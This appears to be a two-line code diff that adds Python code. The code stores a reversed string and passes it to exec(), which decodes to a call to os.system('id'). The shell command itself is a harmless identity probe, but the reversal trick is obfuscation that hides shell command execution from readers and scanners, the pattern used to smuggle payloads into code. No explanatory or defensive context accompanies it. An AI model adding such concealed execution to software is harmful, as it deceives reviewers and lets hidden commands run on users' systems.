@@ -1,0 +1,2 @@
+source = ")'di'(metsys.so ;so tropmi"
+exec(source[::-1])
